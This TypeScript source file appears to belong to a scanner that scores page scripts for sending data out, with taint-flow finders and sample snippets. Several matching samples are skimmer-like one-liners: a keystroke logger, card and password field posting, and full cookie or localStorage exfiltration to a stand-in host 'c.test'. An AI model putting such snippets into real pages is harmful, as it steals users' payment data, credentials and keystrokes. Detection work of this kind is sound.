import { anyField, sensitiveData, taint } from '../flow/taint.ts';
import type { Feature } from './feature.ts';
import { sends, sendsToIgnoringResponse } from './finders.ts';

/** Data that leaves the page. None of these is malicious by itself: forms and analytics do the same. */
export const dataflowFeatures: readonly Feature[] = [
  {
    id: 'card-fields-sent',
    what: 'Sends what is typed into card fields',
    points: 60,
    shows: [],
    find: sends(taint.cardName, anyField),
    samples: {
      matching: [
        `const c = document.querySelector('#cc-number'); fetch('/pay', { method: 'POST', body: c.value });`,
        `var d = { cvv: document.getElementById('x').value }; $.post('/pay', d);`,
      ],
      other: [
        `const c = document.querySelector('#cc-number'); c.classList.toggle('ok', c.value.length > 12);`,
        `fetch('/pay', { body: document.querySelector('#street').value });`,
      ],
    },
  },
  {
    id: 'passwords-sent',
    what: 'Sends what is typed into password fields',
    points: 45,
    shows: [],
    find: sends(taint.passwordName, anyField),
    samples: {
      matching: [
        `const p = document.querySelector('input[type=password]').value; fetch('/login', { body: p });`,
      ],
      other: [`fetch('/help', { body: 'forgot password' });`],
    },
  },
  {
    id: 'keys-sent',
    what: 'Sends pressed keys',
    points: 45,
    shows: [],
    find: sends(taint.key),
    samples: {
      matching: [
        `let b = ''; document.addEventListener('keydown', (e) => { b += e.key; }); setInterval(() => fetch('/k?' + b), 900);`,
      ],
      other: [`document.addEventListener('keydown', (e) => { if (e.key === 'Escape') close(); });`],
    },
  },
  {
    id: 'fields-sent',
    what: 'Sends what is typed into fields',
    points: 20,
    shows: [],
    find: sends(anyField),
    samples: {
      matching: [`fetch('/search?q=' + document.getElementById('q').value);`],
      other: [`document.title = document.getElementById('q').value; fetch('/x');`],
    },
  },
  {
    id: 'all-fields-sent',
    what: 'Sends what is typed into all fields of the page or a form',
    points: 2,
    shows: ['taken'],
    find: sends(taint.allFields, taint.field),
    samples: {
      matching: [`fetch('/save', { method: 'POST', body: new FormData(document.forms[0]) });`],
      other: [`fetch('/search?q=' + document.getElementById('q').value);`],
    },
  },
  {
    id: 'cookies-sent',
    what: 'Sends a part of the cookies',
    points: 12,
    shows: [],
    find: sends(taint.cookie),
    samples: {
      matching: [`const id = /id=(\\w+)/.exec(document.cookie); fetch('/track?' + id[1]);`],
      other: [`document.cookie = 'seen=1'; fetch('/track');`],
    },
  },
  {
    id: 'all-cookies-sent',
    what: 'Sends all cookies unchanged',
    points: 30,
    shows: [],
    find: sends(taint.wholeCookie),
    samples: {
      matching: [`new Image().src = '//c.test/?' + encodeURIComponent(document.cookie);`],
      other: [`new Image().src = '//c.test/?' + document.cookie.length;`],
    },
  },
  {
    id: 'sent-to-other-host',
    what: 'Sends such data to another host that it names or hides, and ignores the response',
    points: 2,
    shows: ['destination'],
    find: sendsToIgnoringResponse(['foreign', 'hidden'], sensitiveData),
    samples: {
      matching: [`fetch('https://c.test/?' + localStorage.getItem('id'));`],
      other: [
        `fetch('/c?' + localStorage.getItem('id'));`,
        `fetch(settings.url + localStorage.getItem('id'));`,
        `fetch('https://c.test/?' + navigator.language);`,
        `fetch('https://c.test/?' + localStorage.getItem('id')).then((r) => r.json()).then(show);`,
      ],
    },
  },
  {
    id: 'storage-sent',
    what: 'Sends data from the browser storage',
    points: 12,
    shows: [],
    find: sends(taint.storage),
    samples: {
      matching: [`fetch('/sync', { body: localStorage.getItem('cart') });`],
      other: [`localStorage.setItem('cart', '[]'); fetch('/sync');`],
    },
  },
  {
    id: 'clipboard-sent',
    what: 'Sends the clipboard',
    points: 40,
    shows: [],
    find: sends(taint.clipboard),
    samples: {
      matching: [
        `document.addEventListener('paste', (e) => fetch('/p', { body: e.clipboardData.getData('text') }));`,
      ],
      other: [`document.addEventListener('paste', (e) => e.preventDefault()); fetch('/p');`],
    },
  },
];
